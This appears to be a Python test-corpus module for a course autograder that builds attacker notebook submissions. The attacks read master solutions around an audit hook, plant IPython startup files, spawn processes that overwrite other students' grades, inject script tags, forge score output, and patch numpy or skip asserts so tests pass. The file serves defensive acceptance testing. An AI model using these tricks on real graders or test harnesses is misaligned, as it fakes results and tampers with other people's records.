"""The attacks on the grading host and the kernel, on the real course: the untouched release
plus one attack each.

Each attacker did no work (the release), so whatever it scores beyond the release came from the
attack; the acceptance batch (test_course.py) grades every attacker with honest students in one
`make autograde -j 2` and checks that no attacker scores more than the release, that the honest
students' grades do not move, that nothing outside the attacker's own output changes, that no
process outlives the batch and that the temporary folder is left empty.

The in-notebook attacks go into a new cell near the top of knn.ipynb, wrapped so that a failed
attempt never stops the notebook (an attack that crashes is no attack). Every attack reports what
it found in its output, so the feedback would show it had it worked.
"""
import base64
import json
import os
from pathlib import Path

from coursekit.course import current

# A process started by an attack carries this in its command line: the batch checks that none
# is left when grading ends.
OUTLIVES_MARKER = "ck-attack-outlives-the-batch"


def _insert_cell(folder, notebook, source, at=2):
    path = folder / f"{notebook}.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].insert(at, {"cell_type": "code", "metadata": {}, "source": source,
                            "outputs": [], "execution_count": None})
    path.write_text(json.dumps(nb))


def _attempt(code):
    """Code that runs `code` and reports, never raising (indented into a try block)."""
    body = "\n".join("    " + line for line in code.strip("\n").splitlines())
    return f"try:\n{body}\nexcept BaseException as exc:\n    print('attack failed:', repr(exc))\n"


def copies_master(dest, ctx):
    """Reads the master package and notebooks (every way around an audit hook: dir_fd, chdir,
    ctypes' system, _posixsubprocess) and writes them over its own copy and its staged copy."""
    master, source = ctx["repo"] / "cs231n", ctx["repo"] / "source" / "assignment1"
    _insert_cell(dest, "knn", _attempt(f"""
import os, shutil, ctypes
os.chdir({str(master)!r})
found = open("layers.py").read()
fd = os.open({str(master)!r}, os.O_RDONLY)
found += os.read(os.open("classifiers/fc_net.py", os.O_RDONLY, dir_fd=fd), 10**6).decode()
ctypes.pythonapi.system(b"cp -r {master} . ; cp {source}/*.ipynb .")
shutil.copytree({str(master)!r}, "cs231n", dirs_exist_ok=True)
print("copied the master", len(found))
"""))
    return dest


def symlink_package(dest, ctx):
    """cs231n/ replaced by a link to the course's master package."""
    import shutil

    shutil.rmtree(dest / "cs231n")
    (dest / "cs231n").symlink_to(ctx["repo"] / "cs231n")
    return dest


def symlinked_notebook(dest, ctx):
    """knn.ipynb replaced by a link to the master notebook (solutions and hidden tests)."""
    (dest / "knn.ipynb").unlink()
    (dest / "knn.ipynb").symlink_to(ctx["repo"] / "source" / "assignment1" / "knn.ipynb")
    return dest


def ipython_startup(dest, ctx):
    """An IPython startup file in $HOME (and in the grader's own home) that makes every test
    pass in every later kernel."""
    payload = "import numpy as np\\nnp.allclose = lambda *a, **k: True\\n"
    _insert_cell(dest, "knn", _attempt(f"""
import os
for home in [os.path.expanduser("~"), "/root", {str(Path.home())!r}]:
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00-ck-attack.py"), "w").write("{payload}")
        print("startup file written in", folder)
    except OSError as exc:
        print("could not write in", folder, type(exc).__name__)
"""))
    return dest


def outlives_batch(dest, ctx):
    """A detached process that waits for the batch to end, then rewrites another student's
    result, the gradebook and grades.csv."""
    targets = [str(ctx["out"] / "autograded" / "master" / "assignment1.json"),
               str(ctx["out"] / "autograded" / "grades.csv"), str(ctx["gradebook"])]
    script = (f"# {OUTLIVES_MARKER}\\nimport os, time\\ntime.sleep(30)\\n"
              f"for p in {targets!r}:\\n"
              "    try:\\n        open(p, 'w').write('0')\\n    except OSError:\\n        pass\\n")
    _insert_cell(dest, "knn", _attempt(f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "{script}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("started a process that outlives the notebook")
"""))
    return dest


def reads_other_students(dest, ctx):
    """Walks the submitted/ folder of the batch (and the output root) and prints what it finds
    of another student's code."""
    _insert_cell(dest, "knn", _attempt(f"""
import os
for root in [{str(ctx["submitted"])!r}, {str(ctx["out"])!r}]:
    for folder, _, files in os.walk(root):
        for name in files:
            if name.endswith(".py"):
                print(os.path.join(folder, name), open(os.path.join(folder, name)).read()[:200])
"""))
    return dest


def fills_the_disk(dest, ctx):
    """Writes 3 GB next to its notebook, in /tmp and in $HOME."""
    _insert_cell(dest, "knn", _attempt("""
import os
for folder in [".", "/tmp", os.path.expanduser("~")]:
    try:
        with open(os.path.join(folder, "ck-attack-fill.bin"), "wb") as f:
            for _ in range(3 * 1024):
                f.write(b"x" * 2**20)
    except OSError as exc:
        print("disk full in", folder, type(exc).__name__)
"""))
    return dest


def sparse_file(dest, ctx):
    """A 4 GB sparse file in the submission (a few KB on the student's disk)."""
    with open(dest / "cs231n" / "saved" / "huge.npy", "wb") as f:
        f.truncate(4 * 2**30)
    return dest


def huge_notebook(dest, ctx):
    """A 100 MB notebook (an output of random bytes)."""
    path = dest / "features.ipynb"
    nb = json.loads(path.read_text())
    blob = base64.b64encode(os.urandom(75 * 2**20)).decode()
    nb["cells"][0].setdefault("outputs", [])
    nb["cells"][0]["cell_type"] = "code"
    nb["cells"][0]["outputs"] = [{"output_type": "display_data", "metadata": {},
                                  "data": {"image/png": blob}}]
    nb["cells"][0]["execution_count"] = None
    path.write_text(json.dumps(nb))
    return dest


def slow_cells(dest, ctx):
    """Several cells, each just under the per-cell time limit: the notebook's own limit stops
    it."""
    seconds = ctx["cell_seconds"] - 2
    for at in range(2, 2 + ctx["slow_cell_count"]):
        _insert_cell(dest, "softmax", f"import time\ntime.sleep({seconds})\n", at=at)
    return dest


def hostile_outputs(dest, ctx):
    """Outputs that would run in the feedback page (<script>, onerror) and a 30 MB image."""
    _insert_cell(dest, "knn", _attempt("""
from IPython.display import HTML, Image, display
import base64, os
display(HTML("<script>document.title='pwned'</script><img src=x onerror=alert(1)>"))
display({"image/png": base64.b64encode(os.urandom(22 * 2**20)).decode()}, raw=True)
"""))
    return dest


def forges_the_score(dest, ctx):
    """Writes a score line straight to the grader's stdout (the workflow reads a score)."""
    _insert_cell(dest, "knn", _attempt("""
import os
for fd in (1, 2):
    os.write(fd, b"\\nScore: 999 / 214\\n::notice title=score::999 / 214\\n")
"""))
    return dest


def oracle_flood(dest, ctx):
    """The module checks' grader functions asked to work on more than they accept (a request
    of gigabytes would not even leave the worker: its own memory limit stops it first)."""
    path = dest / "cs231n" / "classifiers" / "fc_net.py"
    text = path.read_text()
    marker = "    def loss(self, X, y=None):\n"
    assert text.count(marker) == 2, "fc_net.py changed: update attack_corpus.oracle_flood"
    path.write_text(text.replace(marker, marker + (
        "        import numpy as _np\n"
        "        _big = _np.ones((3000, 3000))  # 72 MB: more than a grader function takes\n"
        "        affine_forward(_big, _np.ones((3000, 10)), _np.zeros(10))\n"), 1))
    return dest


# name: the attack (dest, ctx) -> dest; dest holds a copy of the untouched release.
# Attacks on the student's own kernel. Each goes into every notebook of the course, right after
# its set-up cell, so that it is in place in every kernel the grader starts.
NOTEBOOKS = current().notebook_names


def _insert_everywhere(dest, source, at=2):
    for notebook in NOTEBOOKS:
        _insert_cell(dest, notebook, source, at)


# The tricks themselves (also used on the tiny course by test_judge.py).
SWALLOWS_EXCEPTIONS = """
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                    body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Swallow())
print("every cell now swallows its exceptions")
"""


PATCHES_NUMPY = """
import numpy as np

def always(*args, **kwargs):
    return True

def never_raises(*args, **kwargs):
    return None

for f, code in ((np.allclose, always), (np.isclose, always), (np.array_equal, always),
                (np.testing.assert_allclose, never_raises)):
    for target in (f, getattr(f, "_implementation", None), getattr(f, "__wrapped__", None)):
        try:
            target.__code__ = code.__code__
        except (AttributeError, TypeError, ValueError):
            pass
print("numpy comparisons patched", np.allclose(0, 1))
"""


SILENCES_EXCEPTIONS = """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
print("exceptions are now silent")
"""


SKIPS_ASSERTS = """
import linecache, sys

def _ck_local(frame, event, arg):
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("assert", "raise")):
            for line in range(frame.f_lineno + 1, frame.f_lineno + 40):
                try:
                    frame.f_lineno = line
                    break
                except ValueError:
                    continue
    return _ck_local

def _ck_global(frame, event, arg):
    return _ck_local if "ipykernel" in frame.f_code.co_filename or \\
        frame.f_code.co_filename.startswith("<") else None

sys.settrace(_ck_global)
print("asserts are skipped from now on")
"""

# The tricks on the kernel, in one cell that runs them all.
KERNEL_TRICKS = "\n".join(_attempt(code) for code in (
    SWALLOWS_EXCEPTIONS, PATCHES_NUMPY, SILENCES_EXCEPTIONS, SKIPS_ASSERTS))


def swallows_exceptions(dest, ctx):
    """An IPython AST transformer that wraps every later cell in try/except BaseException:
    no cell, test cells included, can fail any more."""
    _insert_everywhere(dest, _attempt(SWALLOWS_EXCEPTIONS))
    return dest


def patches_numpy_comparisons(dest, ctx):
    """np.allclose, np.isclose, np.array_equal and np.testing.assert_allclose made true for
    anything by replacing their code objects (the guard compares object identity)."""
    _insert_everywhere(dest, _attempt(PATCHES_NUMPY))
    return dest


def custom_exception_handler(dest, ctx):
    """IPython's set_custom_exc with a handler that shows nothing: an exception in a cell no
    longer makes an error output."""
    _insert_everywhere(dest, _attempt(SILENCES_EXCEPTIONS))
    return dest


def trace_skips_asserts(dest, ctx):
    """A sys.settrace function that jumps over every assert and raise of the cells."""
    _insert_everywhere(dest, _attempt(SKIPS_ASSERTS))
    return dest


def records_test_sources(dest, ctx):
    """An input_transformers_cleanup hook that records the source of every cell the kernel
    runs, and a last cell of each notebook that prints them (with the hidden tests, when they
    ran there) into the notebook's outputs, thus the feedback."""
    _insert_everywhere(dest, _attempt("""
import builtins
seen = []

def record(lines):
    seen.append("".join(lines))
    return lines

get_ipython().input_transformers_cleanup.append(record)
builtins._ck_seen = seen
print("recording every cell")
"""))
    for notebook in NOTEBOOKS:
        path = dest / f"{notebook}.ipynb"
        count = len(json.loads(path.read_text())["cells"])
        _insert_cell(dest, notebook, _attempt("""
import builtins
print("\\n---\\n".join(builtins._ck_seen))
"""), at=count)
    return dest


ATTACKS = {f.__name__: f for f in (
    copies_master, symlink_package, symlinked_notebook, ipython_startup, outlives_batch,
    reads_other_students, fills_the_disk, sparse_file, huge_notebook, slow_cells,
    hostile_outputs, forges_the_score, oracle_flood, swallows_exceptions,
    patches_numpy_comparisons, custom_exception_handler, trace_skips_asserts,
    records_test_sources)}
